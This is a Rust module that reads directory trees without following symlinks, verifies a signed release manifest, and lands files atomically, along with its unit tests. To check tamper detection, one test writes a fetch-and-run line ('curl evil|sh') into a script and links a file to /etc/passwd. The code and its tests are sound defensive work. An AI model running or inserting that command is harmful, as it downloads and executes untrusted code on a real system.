//! Real directories against a [`FileManifest`] (issue 15; AG-32, AG-33, AG-36): reading a tree
//! for [`FileManifest::compare`], reading one file to check before it runs, and landing a
//! checked set of files as a new tree.
//!
//! Every directory is opened relative to the one before it, never following a link
//! (`O_NOFOLLOW | O_DIRECTORY`), and every file likewise (`O_NOFOLLOW`), its kind judged on the
//! open descriptor (`fstat`), so a link planted anywhere in the tree by someone who can write
//! there is reported as what it is and never read through. Files land with `O_CREAT | O_EXCL`
//! inside a directory this process just made, their mode and owner set on the descriptor,
//! never by path (AG-36).

use std::{
    collections::BTreeMap,
    ffi::OsStr,
    fs::File,
    io::{self, Read as _, Write as _},
    os::{fd::OwnedFd, unix::ffi::OsStrExt as _},
    path::Path,
};

use rustix::{
    fs::{self as rfs, AtFlags, FileType, Mode, OFlags, RenameFlags},
    io::Errno,
};

use crate::manifest::{
    verify, FileManifest, ManifestError, Seen, MANIFEST_FILE, MAX_DEPTH, MAX_FILES, MAX_FILE_BYTES,
    MAX_MANIFEST_BYTES, MAX_SIGNATURE_BYTES, SIGNATURE_FILE,
};
use crate::PublicKey;

fn to_io(error: Errno) -> io::Error {
    io::Error::from(error)
}

fn is(error: &io::Error, errnos: &[Errno]) -> bool {
    errnos
        .iter()
        .any(|errno| error.raw_os_error() == Some(errno.raw_os_error()))
}

/// Opens the directory `path` (absolute or relative to the working directory), never through
/// a link at its last component.
pub fn open_root(path: &Path) -> io::Result<OwnedFd> {
    rfs::open(
        path,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(to_io)
}

fn open_dir_at(dir: &OwnedFd, name: &OsStr) -> io::Result<OwnedFd> {
    rfs::openat(
        dir,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(to_io)
}

/// A regular file's bytes and mode, opened relative to `dir` without following a link;
/// `Ok(None)` when the name is not a regular file (a link, a directory, a device).
fn read_at(dir: &OwnedFd, name: &OsStr, limit: u64) -> io::Result<Option<(Vec<u8>, u32)>> {
    let fd = match rfs::openat(
        dir,
        name,
        OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::CLOEXEC,
        Mode::empty(),
    ) {
        Ok(fd) => fd,
        // ELOOP: the name is a link.
        Err(Errno::LOOP) => return Ok(None),
        Err(error) => return Err(to_io(error)),
    };
    let stat = rfs::fstat(&fd).map_err(to_io)?;
    if FileType::from_raw_mode(stat.st_mode) != FileType::RegularFile {
        return Ok(None);
    }
    if stat.st_size as u64 > limit {
        return Err(io::Error::other(format!(
            "{} is {} bytes, more than {limit}",
            Path::new(name).display(),
            stat.st_size
        )));
    }
    let mut bytes = Vec::with_capacity(stat.st_size as usize);
    File::from(fd).take(limit).read_to_end(&mut bytes)?;
    Ok(Some((bytes, stat.st_mode & 0o7777)))
}

/// Descends from `root` to the directory holding `path`'s last component, each step relative
/// to the one before without following a link. `Ok(None)` when a step is missing or not a
/// directory.
fn parent_of(root: &OwnedFd, path: &str) -> io::Result<Option<(OwnedFd, String)>> {
    let mut parts: Vec<&str> = path.split('/').collect();
    let name = parts.pop().unwrap_or_default().to_string();
    let mut dir = rfs::openat(
        root,
        ".",
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(to_io)?;
    for part in parts {
        dir = match open_dir_at(&dir, OsStr::new(part)) {
            Ok(next) => next,
            Err(error) if is(&error, &[Errno::NOENT, Errno::NOTDIR, Errno::LOOP]) => {
                return Ok(None)
            }
            Err(error) => return Err(error),
        };
    }
    Ok(Some((dir, name)))
}

/// What is at a path of a tree.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Found {
    /// A regular file: its bytes and mode.
    File(Vec<u8>, u32),
    /// Something else: a link, a directory, a device.
    NotAFile,
}

/// What is at `path` under `root`, or nothing (`Ok(None)`).
pub fn read_file(root: &OwnedFd, path: &str) -> io::Result<Option<Found>> {
    let Some((dir, name)) = parent_of(root, path)? else {
        return Ok(None);
    };
    match read_at(&dir, OsStr::new(&name), MAX_FILE_BYTES) {
        Ok(Some((bytes, mode))) => Ok(Some(Found::File(bytes, mode))),
        Ok(None) => Ok(Some(Found::NotAFile)),
        Err(error) if error.kind() == io::ErrorKind::NotFound => Ok(None),
        Err(error) => Err(error),
    }
}

/// The listed `paths` under `root`, as [`FileManifest::compare`] takes them (a site's tree:
/// only what the release has is judged).
pub fn observe_listed<'a>(
    root: &OwnedFd,
    paths: impl IntoIterator<Item = &'a str>,
) -> io::Result<BTreeMap<String, Seen>> {
    let mut seen = BTreeMap::new();
    for path in paths {
        match read_file(root, path)? {
            None => {}
            Some(Found::File(bytes, mode)) => {
                seen.insert(path.to_string(), Seen::of(&bytes, mode));
            }
            Some(Found::NotAFile) => {
                seen.insert(path.to_string(), Seen::Other);
            }
        }
    }
    Ok(seen)
}

/// Everything under `root` (a tree that must hold nothing unlisted, like the support
/// bundle's): every regular file with its hash and mode, anything else as [`Seen::Other`].
/// Directories are descended into, never links; at most [`MAX_FILES`] entries and
/// [`MAX_DEPTH`] levels are read (more is an error).
pub fn observe(root: &OwnedFd) -> io::Result<BTreeMap<String, Seen>> {
    let mut seen = BTreeMap::new();
    let start = rfs::openat(
        root,
        ".",
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(to_io)?;
    let mut stack = vec![(start, String::new(), 0usize)];
    while let Some((dir, prefix, depth)) = stack.pop() {
        let mut entries = rfs::Dir::read_from(&dir).map_err(to_io)?;
        while let Some(entry) = entries.read() {
            let entry = entry.map_err(to_io)?;
            let name = entry.file_name().to_bytes();
            if name == b"." || name == b".." {
                continue;
            }
            let name = OsStr::from_bytes(name);
            let path = format!("{prefix}{}", name.to_string_lossy());
            if seen.len() >= MAX_FILES * 2 {
                return Err(io::Error::other(format!(
                    "the tree holds more than {} entries",
                    MAX_FILES * 2
                )));
            }
            match open_dir_at(&dir, name) {
                Ok(child) => {
                    if depth + 1 >= MAX_DEPTH {
                        return Err(io::Error::other(format!("{path} is too deep")));
                    }
                    stack.push((child, format!("{path}/"), depth + 1));
                    continue;
                }
                Err(error) if is(&error, &[Errno::NOTDIR, Errno::LOOP]) => {}
                Err(error) => return Err(error),
            }
            match read_at(&dir, name, MAX_FILE_BYTES)? {
                Some((bytes, mode)) => seen.insert(path, Seen::of(&bytes, mode)),
                None => seen.insert(path, Seen::Other),
            };
        }
    }
    Ok(seen)
}

/// Reads `RELEASE_MANIFEST` and `RELEASE_MANIFEST.sig` at `root` (without following links) and
/// verifies them against `trusted`: the usable manifest, or why it is not usable.
pub fn load_manifest(root: &OwnedFd, trusted: &[PublicKey]) -> Result<FileManifest, ManifestError> {
    let read = |name: &str, limit: usize| -> Result<Vec<u8>, ManifestError> {
        match read_at(root, OsStr::new(name), limit as u64) {
            Ok(Some((bytes, _))) => Ok(bytes),
            Ok(None) => Err(ManifestError::Unreadable(format!(
                "{name} is not a regular file"
            ))),
            Err(error) if error.kind() == io::ErrorKind::NotFound => {
                Err(ManifestError::Absent(name.to_string()))
            }
            Err(error) => Err(ManifestError::Unreadable(format!("{name}: {error}"))),
        }
    };
    let manifest = read(MANIFEST_FILE, MAX_MANIFEST_BYTES)?;
    let signature = read(SIGNATURE_FILE, MAX_SIGNATURE_BYTES)?;
    verify(&manifest, &signature, trusted).map(|(manifest, _)| manifest)
}

/// Who should own landed files: `Some((uid, gid))` to set on each descriptor (root's `(0, 0)`
/// when the agent runs as root), `None` to leave them the process's own.
pub type Owner = Option<(u32, u32)>;

/// Lands `files` (path, mode, bytes) as the directory `name` inside `parent`, replacing what
/// was there as one rename: the files are written into a fresh directory beside it (made
/// here, so nothing in it predates this call), each created with `O_EXCL` and never through a
/// link, its mode and owner set on the descriptor and its bytes synced; then the fresh
/// directory is exchanged with the old one (or renamed into place) and the old one removed.
pub fn land<'a>(
    parent: &Path,
    name: &str,
    files: impl IntoIterator<Item = (&'a str, u32, &'a [u8])>,
    owner: Owner,
) -> io::Result<()> {
    let parent = open_root(parent)?;
    let fresh = format!(".{name}.new-{:016x}", rand::random::<u64>());
    rfs::mkdirat(&parent, fresh.as_str(), Mode::from_raw_mode(0o700)).map_err(to_io)?;
    let written = (|| {
        let top = open_dir_at(&parent, OsStr::new(&fresh))?;
        for (path, mode, bytes) in files {
            if !crate::manifest::valid_path(path) {
                return Err(io::Error::other(format!(
                    "{path:?} is not a plain relative path"
                )));
            }
            let mut dir = rfs::openat(
                &top,
                ".",
                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
                Mode::empty(),
            )
            .map_err(to_io)?;
            let mut parts: Vec<&str> = path.split('/').collect();
            let file_name = parts.pop().unwrap_or_default();
            for part in parts {
                match rfs::mkdirat(&dir, part, Mode::from_raw_mode(0o755)) {
                    Ok(()) => {
                        let made = open_dir_at(&dir, OsStr::new(part))?;
                        rfs::fchmod(&made, Mode::from_raw_mode(0o755)).map_err(to_io)?;
                        if let Some((uid, gid)) = owner {
                            chown(&made, uid, gid)?;
                        }
                        dir = made;
                    }
                    Err(Errno::EXIST) => dir = open_dir_at(&dir, OsStr::new(part))?,
                    Err(error) => return Err(to_io(error)),
                }
            }
            write_new(&dir, file_name, bytes, mode, owner)?;
        }
        rfs::fchmod(&top, Mode::from_raw_mode(0o755)).map_err(to_io)?;
        if let Some((uid, gid)) = owner {
            chown(&top, uid, gid)?;
        }
        rfs::fsync(&top).map_err(to_io)?;
        Ok(())
    })();
    if let Err(error) = written {
        let _ = remove_tree(&parent, &fresh);
        return Err(error);
    }
    match rfs::renameat_with(
        &parent,
        fresh.as_str(),
        &parent,
        name,
        RenameFlags::EXCHANGE,
    ) {
        Ok(()) => {
            // The old tree now has the fresh name.
            remove_tree(&parent, &fresh)?;
        }
        Err(Errno::NOENT) => {
            rfs::renameat(&parent, fresh.as_str(), &parent, name).map_err(to_io)?;
        }
        Err(error) => {
            let _ = remove_tree(&parent, &fresh);
            return Err(to_io(error));
        }
    }
    rfs::fsync(&parent).map_err(to_io)?;
    Ok(())
}

/// Creates `name` in `dir` with `O_EXCL` (never through a link), sets its owner and mode on the
/// descriptor, writes `bytes` and syncs.
fn write_new(dir: &OwnedFd, name: &str, bytes: &[u8], mode: u32, owner: Owner) -> io::Result<()> {
    let fd = rfs::openat(
        dir,
        name,
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(0o600),
    )
    .map_err(to_io)?;
    if let Some((uid, gid)) = owner {
        chown(&fd, uid, gid)?;
    }
    rfs::fchmod(&fd, Mode::from_raw_mode(mode & 0o777)).map_err(to_io)?;
    let mut file = File::from(fd);
    file.write_all(bytes)?;
    file.sync_all()
}

/// Replaces the file `path` under `root` whole (AG-36, AG-37): the bytes go into a temporary
/// file created with `O_EXCL` beside it (never through a link; mode and owner set on the
/// descriptor; synced), which is then renamed over `path`. A reader sees the old file or the
/// new one, never a part of either. Each directory on the way is opened relative to the one
/// before without following a link, and must already be there; what stood at `path` (a file,
/// a link) is replaced, never written through. A directory at `path` is an error.
pub fn replace_file(
    root: &OwnedFd,
    path: &str,
    bytes: &[u8],
    mode: u32,
    owner: Owner,
) -> io::Result<()> {
    if !crate::manifest::valid_path(path) {
        return Err(io::Error::other(format!(
            "{path:?} is not a plain relative path"
        )));
    }
    let Some((dir, name)) = parent_of(root, path)? else {
        return Err(io::Error::new(
            io::ErrorKind::NotFound,
            format!("the directory holding {path} is not there (or is a link)"),
        ));
    };
    let fresh = format!(".{name}.new-{:016x}", rand::random::<u64>());
    let written = (|| {
        write_new(&dir, fresh.as_str(), bytes, mode, owner)?;
        rfs::renameat(&dir, fresh.as_str(), &dir, name.as_str()).map_err(to_io)
    })();
    if let Err(error) = written {
        let _ = rfs::unlinkat(&dir, fresh.as_str(), AtFlags::empty());
        return Err(error);
    }
    rfs::fsync(&dir).map_err(to_io)?;
    Ok(())
}

fn chown(fd: &OwnedFd, uid: u32, gid: u32) -> io::Result<()> {
    rfs::fchown(
        fd,
        Some(rustix::process::Uid::from_raw(uid)),
        Some(rustix::process::Gid::from_raw(gid)),
    )
    .map_err(to_io)
}

/// Removes the directory `name` inside `parent` and everything in it, descriptor-relative,
/// never following a link (a link is removed as a link).
pub fn remove_tree(parent: &OwnedFd, name: &str) -> io::Result<()> {
    let dir = match open_dir_at(parent, OsStr::new(name)) {
        Ok(dir) => dir,
        Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(()),
        Err(error) => return Err(error),
    };
    let mut names = Vec::new();
    {
        let mut entries = rfs::Dir::read_from(&dir).map_err(to_io)?;
        while let Some(entry) = entries.read() {
            let entry = entry.map_err(to_io)?;
            let bytes = entry.file_name().to_bytes();
            if bytes != b"." && bytes != b".." {
                names.push((bytes.to_vec(), entry.file_type()));
            }
        }
    }
    for (child, kind) in names {
        let child_name = OsStr::from_bytes(&child);
        if kind == FileType::Directory {
            remove_tree(&dir, &child_name.to_string_lossy())?;
        } else {
            rfs::unlinkat(&dir, child_name, AtFlags::empty()).map_err(to_io)?;
        }
    }
    rfs::unlinkat(parent, name, AtFlags::REMOVEDIR).map_err(to_io)
}

/// The effective user and group of this process, for landing files as its own (root when
/// running as root).
pub fn this_process_owner() -> (u32, u32) {
    (
        rustix::process::geteuid().as_raw(),
        rustix::process::getegid().as_raw(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::manifest::{Problem, MANIFEST_FILE, SIGNATURE_FILE};
    use crate::NodeKey;
    use std::os::unix::fs::PermissionsExt as _;

    const SCRIPT: &[u8] = b"#!/bin/sh\necho report\n";

    fn key() -> NodeKey {
        NodeKey::from_secret_bytes(&[4; 32]).unwrap()
    }

    fn files() -> Vec<(&'static str, u32, &'static [u8])> {
        vec![
            ("bin/host_report.sh", 0o755, SCRIPT),
            ("conf/deep/ranges.txt", 0o644, &b"192.0.2.0/24\n"[..]),
        ]
    }

    /// A landed tree with its signed manifest beside it, as the agent lays the bundle down.
    fn landed(dir: &Path) -> FileManifest {
        let manifest = FileManifest::describe(files()).unwrap();
        let bytes = manifest.to_bytes();
        let signature = manifest.sign(&key());
        let mut all = files();
        all.push((MANIFEST_FILE, 0o644, &bytes));
        all.push((SIGNATURE_FILE, 0o644, &signature));
        land(dir, "tree", all, None).unwrap();
        manifest
    }

    #[test]
    fn ag_36_land_writes_every_file_with_its_mode_and_replaces_the_old_tree_whole() {
        let dir = tempfile::tempdir().unwrap();
        let manifest = landed(dir.path());
        let tree = dir.path().join("tree");
        assert_eq!(
            std::fs::read(tree.join("bin/host_report.sh")).unwrap(),
            SCRIPT
        );
        let mode = |path: &str| {
            std::fs::metadata(tree.join(path))
                .unwrap()
                .permissions()
                .mode()
                & 0o7777
        };
        assert_eq!(mode("bin/host_report.sh"), 0o755);
        assert_eq!(mode("conf/deep/ranges.txt"), 0o644);
        assert_eq!(mode("conf/deep"), 0o755);
        // what was landed reads back as the manifest says
        let root = open_root(&tree).unwrap();
        assert_eq!(
            load_manifest(&root, &[key().public_key()]).unwrap(),
            manifest
        );
        let seen = observe(&root).unwrap();
        assert!(manifest
            .compare(&seen, true, &[MANIFEST_FILE, SIGNATURE_FILE])
            .is_empty());
        // landing again replaces the tree: a file planted in the old one is gone
        std::fs::write(tree.join("planted.sh"), b"x").unwrap();
        landed(dir.path());
        assert!(!tree.join("planted.sh").exists());
        // and nothing is left beside it
        let names: Vec<_> = std::fs::read_dir(dir.path())
            .unwrap()
            .map(|entry| entry.unwrap().file_name())
            .collect();
        assert_eq!(names, ["tree"]);
    }

    #[test]
    fn ag_37_replace_file_puts_the_bytes_and_mode_in_place_whole_and_never_writes_through_a_link() {
        let dir = tempfile::tempdir().unwrap();
        landed(dir.path());
        let tree = dir.path().join("tree");
        let root = open_root(&tree).unwrap();
        std::fs::write(tree.join("bin/host_report.sh"), b"edited").unwrap();
        replace_file(&root, "bin/host_report.sh", SCRIPT, 0o755, None).unwrap();
        assert_eq!(
            std::fs::read(tree.join("bin/host_report.sh")).unwrap(),
            SCRIPT
        );
        let mode = std::fs::metadata(tree.join("bin/host_report.sh"))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777;
        assert_eq!(mode, 0o755);
        // nothing is left beside it
        let mut names: Vec<_> = std::fs::read_dir(tree.join("bin"))
            .unwrap()
            .map(|entry| entry.unwrap().file_name())
            .collect();
        names.sort();
        assert_eq!(names, ["host_report.sh"]);
        // a link at the path is replaced, and its target is left alone
        let outside = dir.path().join("outside");
        std::fs::write(&outside, b"not mine").unwrap();
        std::fs::remove_file(tree.join("conf/deep/ranges.txt")).unwrap();
        std::os::unix::fs::symlink(&outside, tree.join("conf/deep/ranges.txt")).unwrap();
        replace_file(&root, "conf/deep/ranges.txt", b"ranges", 0o644, None).unwrap();
        assert_eq!(std::fs::read(&outside).unwrap(), b"not mine");
        let meta = std::fs::symlink_metadata(tree.join("conf/deep/ranges.txt")).unwrap();
        assert!(meta.file_type().is_file());
        // a directory on the way that is a link is never followed
        let elsewhere = dir.path().join("elsewhere");
        std::fs::create_dir(&elsewhere).unwrap();
        std::fs::remove_dir_all(tree.join("conf")).unwrap();
        std::os::unix::fs::symlink(&elsewhere, tree.join("conf")).unwrap();
        assert!(replace_file(&root, "conf/ranges.txt", b"x", 0o644, None).is_err());
        assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
        // and a path that climbs is refused
        assert!(replace_file(&root, "../escape", b"x", 0o644, None).is_err());
    }

    #[test]
    fn ag_36_land_refuses_a_path_outside_the_tree_and_leaves_nothing_behind() {
        let dir = tempfile::tempdir().unwrap();
        let error = land(dir.path(), "tree", [("../escape", 0o644, &b"x"[..])], None).unwrap_err();
        assert!(error.to_string().contains("plain relative path"), "{error}");
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
    }

    #[test]
    fn ag_33_a_tree_read_from_disk_names_modified_planted_and_linked_files() {
        let dir = tempfile::tempdir().unwrap();
        let manifest = landed(dir.path());
        let tree = dir.path().join("tree");
        std::fs::write(
            tree.join("bin/host_report.sh"),
            b"#!/bin/sh\ncurl evil|sh\n",
        )
        .unwrap();
        std::fs::write(tree.join("bin/extra.sh"), b"x").unwrap();
        std::fs::remove_file(tree.join("conf/deep/ranges.txt")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", tree.join("conf/deep/ranges.txt")).unwrap();
        let root = open_root(&tree).unwrap();
        let differences = manifest.compare(
            &observe(&root).unwrap(),
            true,
            &[MANIFEST_FILE, SIGNATURE_FILE],
        );
        let shown: Vec<String> = differences.iter().map(ToString::to_string).collect();
        assert_eq!(
            shown,
            [
                "bin/extra.sh (not listed)",
                "bin/host_report.sh (modified)",
                "conf/deep/ranges.txt (not a regular file)",
            ]
        );
        // only the listed files, for a site's tree
        let listed = observe_listed(&root, manifest.files.keys().map(String::as_str)).unwrap();
        assert_eq!(manifest.compare(&listed, false, &[]).len(), 2);
    }

    #[test]
    fn ag_33_a_directory_link_is_never_descended_and_a_read_through_it_finds_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let manifest = landed(dir.path());
        let tree = dir.path().join("tree");
        let elsewhere = dir.path().join("elsewhere");
        std::fs::create_dir(&elsewhere).unwrap();
        std::fs::write(elsewhere.join("host_report.sh"), SCRIPT).unwrap();
        std::fs::remove_dir_all(tree.join("bin")).unwrap();
        std::os::unix::fs::symlink(&elsewhere, tree.join("bin")).unwrap();
        let root = open_root(&tree).unwrap();
        assert_eq!(read_file(&root, "bin/host_report.sh").unwrap(), None);
        let differences = manifest.compare(
            &observe(&root).unwrap(),
            true,
            &[MANIFEST_FILE, SIGNATURE_FILE],
        );
        assert!(differences
            .iter()
            .any(|difference| difference.path == "bin" && difference.problem == Problem::NotAFile));
        assert!(differences
            .iter()
            .any(|difference| difference.path == "bin/host_report.sh"
                && difference.problem == Problem::Missing));
    }

    #[test]
    fn ag_33_an_absent_unsigned_or_foreign_manifest_is_not_usable() {
        let dir = tempfile::tempdir().unwrap();
        let empty = open_root(dir.path()).unwrap();
        assert!(matches!(
            load_manifest(&empty, &[key().public_key()]),
            Err(ManifestError::Absent(_))
        ));
        landed(dir.path());
        let root = open_root(&dir.path().join("tree")).unwrap();
        let stranger = NodeKey::from_secret_bytes(&[5; 32]).unwrap();
        assert!(matches!(
            load_manifest(&root, &[stranger.public_key()]),
            Err(ManifestError::UntrustedSignature { .. })
        ));
        // a manifest file replaced by a link is not read through
        let tree = dir.path().join("tree");
        std::fs::rename(tree.join(MANIFEST_FILE), dir.path().join("moved")).unwrap();
        std::os::unix::fs::symlink(dir.path().join("moved"), tree.join(MANIFEST_FILE)).unwrap();
        let root = open_root(&tree).unwrap();
        assert!(matches!(
            load_manifest(&root, &[key().public_key()]),
            Err(ManifestError::Unreadable(_))
        ));
    }
}
